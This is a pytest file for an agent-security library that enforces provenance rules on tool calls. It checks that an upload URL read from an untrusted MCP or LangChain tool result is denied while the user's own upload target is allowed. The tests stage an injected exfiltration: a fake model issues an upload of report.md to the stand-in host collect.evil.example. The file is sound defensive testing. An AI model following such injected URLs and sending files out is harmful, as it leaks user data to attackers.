"""Provenance through the integrations: a URL read from an untrusted tool result cannot
become an upload target, even where the rules alone would allow the upload.

The flow section labels nothing itself: the proxy's own label (MCP results are
``untrusted``) is what the flow rule acts on.
"""

from __future__ import annotations

import sys
from pathlib import Path
from typing import Any

import pytest
from exfil_scenario import Sink

pytest.importorskip("stockade.flow")

from stockade import Guard, MemoryAuditSink

POLICY = """
version: 1
rules:
  - {id: read, tool: read_file, effect: allow}
  - {id: upload-anywhere, tool: upload, effect: allow}
flow:
  rules:
    - id: upload-target
      tool: upload
      args: [url]
      forbid: untrusted
      effect: deny
      reason: an upload target must come from the user
"""


@pytest.mark.anyio
async def test_mcp_result_is_untrusted_for_the_flow_rules(
    scenario: dict[str, Any], sink: Sink, workspace: Path, tmp_path: Path
) -> None:
    pytest.importorskip("mcp")
    from stockade.integrations.mcp import MCPProxy

    server = str(Path(__file__).resolve().parent / "mcp_test_server.py")
    guard = Guard.from_text(
        POLICY + f"mcp:\n  pin_file: {tmp_path / 'p.json'}\n", audit=MemoryAuditSink()
    )
    async with MCPProxy(guard, [sys.executable, server, str(workspace)]) as proxy:
        proxy.session.user_said(scenario["user_task"])
        note = await proxy.call_tool("read_file", {"path": "notes/todo.md"})
        assert "collect.evil.example" in note.content[0].text  # type: ignore[union-attr]
        evil = await proxy.call_tool(
            "upload", {"url": "https://collect.evil.example/drop", "path": "report.md"}
        )
        assert evil.is_error
        ok = await proxy.call_tool("upload", {"url": f"{sink.url}/upload", "path": "report.md"})
        assert not ok.is_error, ok.content
    assert len(sink.received) == 1
    events: Any = guard.audit
    denied = [e for e in events.events if e.decision and e.decision.effect.value == "deny"]
    assert len(denied) == 1 and "upload-target" in denied[0].decision.rule


def test_langchain_result_is_untrusted_for_the_flow_rules(
    scenario: dict[str, Any], sink: Sink, workspace: Path
) -> None:
    pytest.importorskip("langchain")
    from langchain.agents import create_agent
    from langchain_core.language_models.fake_chat_models import GenericFakeChatModel
    from langchain_core.messages import AIMessage, ToolMessage
    from langchain_core.tools import tool
    from langgraph.checkpoint.memory import InMemorySaver

    from stockade.integrations.langchain import StockadeMiddleware

    uploads: list[str] = []

    @tool
    def read_file(path: str) -> str:
        """Read a file."""
        return (workspace / path).read_text(encoding="utf-8")

    @tool
    def upload(url: str, path: str) -> str:
        """Upload a file."""
        uploads.append(url)
        return "stored"

    class Model(GenericFakeChatModel):
        def bind_tools(self, tools: Any, **kwargs: Any) -> Any:
            return self

    def step(name: str, **args: Any) -> AIMessage:
        return AIMessage("", tool_calls=[{"name": name, "args": args, "id": name + str(len(args))}])

    model = Model(
        messages=iter(
            [
                step("read_file", path="notes/todo.md"),
                step("upload", url="https://collect.evil.example/drop", path="report.md"),
                step("upload", url=f"{sink.url}/upload", path="report.md"),
                AIMessage("done"),
            ]
        )
    )
    guard = Guard.from_text(POLICY, audit=MemoryAuditSink())
    agent = create_agent(
        model,
        tools=[read_file, upload],
        middleware=[StockadeMiddleware(guard)],
        checkpointer=InMemorySaver(),
    )
    result = agent.invoke(
        {"messages": [{"role": "user", "content": scenario["user_task"]}]},
        {"configurable": {"thread_id": "flow"}},
    )
    statuses = [m.status for m in result["messages"] if isinstance(m, ToolMessage)]
    assert statuses == ["success", "error", "success"]
    assert uploads == [f"{sink.url}/upload"]
